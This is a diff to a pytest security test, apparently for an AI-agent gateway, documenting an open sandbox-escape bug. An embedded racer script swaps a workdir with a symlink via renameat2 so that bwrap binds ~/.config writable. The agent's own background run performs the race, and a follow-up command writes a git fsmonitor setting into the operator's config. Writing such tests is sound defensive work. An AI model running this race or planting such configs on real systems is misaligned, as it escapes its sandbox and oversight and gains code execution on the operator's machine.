@@ -180,47 +180,68 @@ async def test_class6_a_web_console_tab_runs_the_runner_package_an_agent_planted
         await proc.wait()
 
 
-# --- the gateway-host view: a writable root bound by path -----------------------------------------------
+# --- the gateway-host view: a writable workdir bound by path -------------------------------------------
+
+RACER = r"""
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+n = 0
+while not os.path.exists("stop") and n < 20_000_000:
+    libc.renameat2(-100, b"sub", -100, b"lnk", 2)  # RENAME_EXCHANGE
+    n += 1
+"""
 
 
 @pytest.mark.xfail(
     strict=True,
-    reason="open: hostWritable roots (and a home workdir) are checked by realpath and then bound by path "
-    "(`bwrap --bind R R`); a run writing the parent root exchanges R with a relative link to ../.config "
-    "between the check and bwrap's mount, and the next run's view has ~/.config writable: it creates the "
-    "operator's XDG git config, which gitvet trusts",
+    reason="open: a home workdir (and a hostWritable root) is checked by realpath, then bound by path "
+    "(`bwrap --bind W W`); the agent's own background run in ~/proj exchanges ~/proj/sub with a relative "
+    "link to ../.config in a loop, and a run with workdir ~/proj/sub gets ~/.config bound writable: it "
+    "creates the operator's XDG git config, which gitvet trusts",
 )
-async def test_class6_a_nested_writable_root_exchanged_for_a_link_makes_the_homes_config_writable(
+async def test_class6_a_workdir_exchanged_for_a_link_by_the_agents_own_run_makes_the_homes_config_writable(
     state_dir: Path,
 ) -> None:
     from engine.protocol.frames import RemoteError
     from tests.helpers.gateway import FULL
-    from tests.helpers.race import exchange_loop, tries
+    from tests.helpers.race import tries
 
     home = Path(os.environ["HOME"])
     (home / ".config" / "git").mkdir(parents=True)
-    (home / "proj" / "sub").mkdir(parents=True)
-    # What the agent's background run in ~/proj (writable there) does: a link beside the nested root.
-    os.symlink("../.config", home / "proj" / "lnk")
-    write_config(state_dir, FULL + 'hostWritable = ["~/proj", "~/proj/sub"]\n')
+    proj = home / "proj"
+    (proj / "sub").mkdir(parents=True)
+    os.symlink("../.config", proj / "lnk")
+    (proj / "racer.py").write_text(RACER)
+    write_config(state_dir, FULL)
     target = home / ".config" / "git" / "config"
     async with gateway(state_dir):
         client = await connect(state_dir)
         try:
-            with exchange_loop(str(home / "proj" / "sub"), str(home / "proj" / "lnk")):
-                for _ in tries(400):
-                    # RemoteError: the check saw the link this time (or a name mid-exchange)
+            racer = await client.request(
+                "exec",
+                {"command": "python3 racer.py", "agentId": "main", "workdir": str(proj), "background": True},
+            )
+            assert racer["details"]["status"] == "running", racer["text"]
+            try:
+                for _ in tries(3000, budget_s=150):
+                    # RemoteError: the check saw the link, or a name mid-exchange
                     with contextlib.suppress(RemoteError):
                         await client.request(
                             "exec",
                             {
                                 "command": f"printf '[core]\\n\\tfsmonitor = x\\n' > {target} 2>/dev/null",
                                 "agentId": "main",
-                                "workdir": str(home / "proj"),
+                                "workdir": str(proj / "sub"),
                             },
                         )
                     if target.exists():
                         break
+            finally:
+                (proj / "stop").write_text("")
+                with contextlib.suppress(RemoteError):
+                    await client.request(
+                        "process", {"action": "kill", "sessionId": racer["details"]["sessionId"]}
+                    )
         finally:
             await client.close()
     assert not target.exists(), "a run wrote the operator's global git config through a raced bind"
